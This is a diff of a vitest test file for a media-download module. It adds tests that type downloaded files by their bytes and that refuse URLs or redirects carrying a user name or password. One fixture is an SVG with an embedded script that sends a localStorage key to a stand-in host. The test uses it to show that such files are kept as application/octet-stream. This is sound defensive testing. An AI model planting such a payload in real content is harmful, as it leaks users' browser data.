@@ -1,6 +1,7 @@
+import { fileTypeFromBuffer } from 'file-type';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { AppError } from '../src/lib/errors.ts';
-import { type DownloadOptions, downloadMedia } from '../src/media/download.ts';
+import { type DownloadOptions, downloadMedia, networkMediaType } from '../src/media/download.ts';
 import { jpeg, pdf, png, serve, type TestServer } from './media-files.ts';
 
 /** Real HTTP servers on loopback; nothing mocked. */
@@ -185,7 +186,7 @@ describe("downloadMedia: a network's media ('any')", () => {
 
   it("a test clinic's download of something unrecognised (a service's text on loopback) is refused, not kept", async () => {
     await refused(
-      downloadMedia(`${files.url}/text`, { ...loopback, declared: 'any', fallbackMime: 'application/pdf' }),
+      downloadMedia(`${files.url}/text`, { ...loopback, declared: 'any' }),
       /not an image, audio, video or PDF; a test clinic's media must be one/,
     );
   });
@@ -193,9 +194,69 @@ describe("downloadMedia: a network's media ('any')", () => {
   it('nor a recognised file that is not media (XML, an archive): a test clinic keeps media only', async () => {
     for (const path of ['/xml', '/zip'])
       await refused(
-        downloadMedia(`${files.url}${path}`, { ...loopback, declared: 'any', fallbackMime: 'image/png' }),
+        downloadMedia(`${files.url}${path}`, { ...loopback, declared: 'any' }),
         /not an image, audio, video or PDF \(its content is application\/(xml|zip)\)/,
       );
+  });
+});
+
+describe("a network's media is typed by its bytes alone (issue 34)", () => {
+  const svg = Buffer.from(
+    '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//x/"+localStorage.key(0))</script></svg>',
+  );
+
+  // A live clinic's download cannot reach loopback, so the decision is played on its own: the
+  // bytes as the sniffer reads them, then the type kept.
+  it("a live clinic's SVG declared image/svg+xml sniffs as nothing and is kept as application/octet-stream", async () => {
+    const sniffed = (await fileTypeFromBuffer(svg))?.mime;
+    expect(sniffed).toBeUndefined();
+    expect(networkMediaType(sniffed, 'live', 'media.url')).toBe('application/octet-stream');
+  });
+
+  it("a live clinic's recognised file keeps the sniffed type", () => {
+    expect(networkMediaType('image/png', 'live', 'media.url')).toBe('image/png');
+  });
+});
+
+describe('downloadMedia: a user name or password in the URL (issue 34)', () => {
+  it.each([['user:secret@'], ['user@'], [':secret@']])(
+    'http://%s… is refused before any connection',
+    async (userinfo) => {
+      const before = files.connections;
+      await refused(
+        downloadMedia(`http://${userinfo}127.0.0.1:${files.port}/image.png`, loopback),
+        /^media\.url must not carry a user name or password\.$/,
+      );
+      expect(files.connections).toBe(before);
+    },
+  );
+
+  it("the field named is the caller's (url for a recording)", async () => {
+    const err = await downloadMedia(`http://u:p@127.0.0.1:${files.port}/image.png`, {
+      ...loopback,
+      declared: 'audio',
+      param: 'url',
+    }).catch((e: AppError) => e);
+    expect(err).toMatchObject({
+      status: 422,
+      param: 'url',
+      message: 'url must not carry a user name or password.',
+    });
+  });
+
+  it('a redirect to a URL with credentials is refused: its host is never connected to', async () => {
+    const target = await serve((_req, res) => res.end(png()));
+    const location = `http://u:p@127.0.0.1:${target.port}/image.png`;
+    await refused(
+      downloadMedia(`${files.url}/to?location=${encodeURIComponent(location)}`, loopback),
+      /must not carry a user name or password/,
+    );
+    expect(target.connections).toBe(0);
+    // The same hop without them is fetched: the refusal is the credentials', not the host's.
+    const plain = `http://127.0.0.1:${target.port}/image.png`;
+    const r = await downloadMedia(`${files.url}/to?location=${encodeURIComponent(plain)}`, loopback);
+    expect(r.mime).toBe('image/png');
+    expect(target.connections).toBe(1);
   });
 });
 
